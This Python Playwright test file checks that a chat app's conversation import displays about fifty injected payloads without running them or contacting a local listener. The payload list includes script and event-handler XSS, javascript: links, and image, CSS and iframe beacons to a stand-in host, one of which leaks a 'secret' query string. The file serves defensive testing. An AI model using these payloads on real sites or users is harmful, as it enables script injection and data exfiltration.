"""What a conversation from elsewhere holds is shown, not run and not fetched: nothing outside is asked, no dialog opens."""

import contextlib
import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Page, expect, sync_playwright

from tests.journeys.driving import go_to, launch, open_window

pytestmark = pytest.mark.journey

HOST = "evil.example"
"""Stands for the address of a listener, which must not be reached."""
PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src='http://evil.example/1.png'>",
    "<svg onload=alert(1)>", "![x](http://evil.example/2.png)", "![x](https://evil.example/?q=secret)",
    "![][r]\n\n[r]: http://evil.example/3.png", "<iframe src='http://evil.example/4'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<a href='javascript:alert(1)'>click</a>",
    "[click](javascript:alert(1))", "[c](data:text/html,<script>alert(1)</script>)",
    "<link rel=stylesheet href=http://evil.example/5.css>", "<style>@import 'http://evil.example/6.css';</style>",
    "<style>body{background:url(http://evil.example/7.png)}</style>",
    "<div style='background:url(http://evil.example/8.png)'>x</div>", "<video src=http://evil.example/9.mp4 autoplay>",
    "<audio src=http://evil.example/10.mp3 autoplay>", "<embed src=http://evil.example/11>",
    "<object data=http://evil.example/12></object>", "<base href=http://evil.example/>",
    "<form action=http://evil.example/13><input autofocus>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/14'>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<picture><source srcset=http://evil.example/15.png><img></picture>", "<img srcset='http://evil.example/16.png 1x'>",
    "<img src=//evil.example/17.png>", "<img src='https:\\\\evil.example\\18.png'>",
    "<image src=http://evil.example/19.png>", "<svg><image href=http://evil.example/20.png /></svg>",
    "<svg><use href=http://evil.example/21.svg#a /></svg>", "<input type=image src=http://evil.example/22.png>",
    "<table background=http://evil.example/23.png><tr><td>x</table>", "<script src=http://evil.example/24.js></script>",
    "<link rel=prefetch href=http://evil.example/25>", "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=preload as=image href=http://evil.example/26.png>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<svg><script>alert&#40;1&#41;</script></svg>",
    "<<script>alert(1);//<</script>", "<img src=x:x onerror=eval('ale'+'rt(1)')>", "$$\\href{javascript:alert(1)}{x}$$",
    "$$\\includegraphics{http://evil.example/27.png}$$",
    "```html\n<img src=http://evil.example/28.png onerror=alert(1)>\n```",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```", "{{constructor.constructor('alert(1)')()}}",
    "<p style=\"content:url('http://evil.example/29.png')\">x</p>", "<track src=http://evil.example/30.vtt>",
    "<link rel=preconnect href=http://evil.example/31>",
)  # fmt: skip


class Listener:
    """Another server on this computer; counts who connects, whatever they say then."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.2", 0))
        self.address = f"127.0.0.2:{self._socket.getsockname()[1]}"
        self.reached = 0
        threading.Thread(target=self._count, daemon=True).start()

    def _count(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                self._socket.accept()[0].close()
                self.reached += 1

    def close(self) -> None:
        """Stop listening."""
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    """A listener, which is seen to work."""
    opened = Listener()
    host, port = opened.address.split(":")
    socket.create_connection((host, int(port))).close()
    until = time.monotonic() + 10
    while not opened.reached and time.monotonic() < until:
        time.sleep(0.01)
    assert opened.reached == 1
    yield opened
    opened.close()


@pytest.fixture
def address(tiny_address: str, listener: Listener) -> Iterator[str]:
    """The window on a model that was taught a payload too."""
    lesson = f"Otter <img src=http://{listener.address}/0.png onerror=alert(1)>"
    said = {"text": lesson, "question": "Which otter?", "answer": "word5 word6", "method": "fast"}
    with httpx.Client(base_url=tiny_address, timeout=120) as http:
        taught = http.post("/api/lessons", json=said)
        assert taught.status_code == 201, taught.text
        yield tiny_address
        http.delete(f"/api/lessons/{taught.json()['lesson']}")


def _import(page: Page, messages: list[dict], folder: Path) -> None:
    file = folder / "conversation.json"
    file.write_text(json.dumps({"title": "<img src=x onerror=alert(1)>", "messages": messages}), encoding="utf-8")
    if not page.locator("#chat-import").is_visible():
        page.locator("#chat-manage").get_by_role("button").first.click()
    with page.expect_file_chooser() as chooser:
        page.locator("#chat-import").click()
    chooser.value.set_files(file)


def test_fifty_payloads_are_shown_and_nothing_happens(address: str, listener: Listener, tmp_path: Path) -> None:
    dialogs: list[str] = []
    messages = [
        {"role": role, "content": payload.replace(HOST, listener.address) + f"\n\nnumber {index}"}
        for index, payload in enumerate(PAYLOADS) for role in ("user", "assistant")
    ]  # fmt: skip
    with sync_playwright() as playwright:
        browser = launch(playwright)
        context = browser.new_context(viewport={"width": 1280, "height": 860})
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        open_window(page, address)
        _import(page, messages, tmp_path)
        last = page.locator("#chat-messages .message.bot").last
        expect(last).to_contain_text(f"number {len(PAYLOADS) - 1}", timeout=60_000)
        page.locator("#chat-earlier").click()  # the end of a long conversation is drawn at first
        expect(page.locator("#chat-messages .message.bot")).to_have_count(len(PAYLOADS), timeout=60_000)
        page.wait_for_timeout(1_500)
        for tab in ("Lessons", "Versions", "Teach", "Export", "Chat"):
            go_to(page, tab)
            page.wait_for_timeout(300)
        assert page.evaluate("document.querySelectorAll('#chat-messages script, #chat-messages iframe[src]').length") == 0
        shown = page.locator("#chat-messages .message.bot").count()
        browser.close()
    assert listener.reached == 1, f"{listener.reached - 1} requests went elsewhere"
    assert dialogs == [] and shown == len(PAYLOADS) >= 50
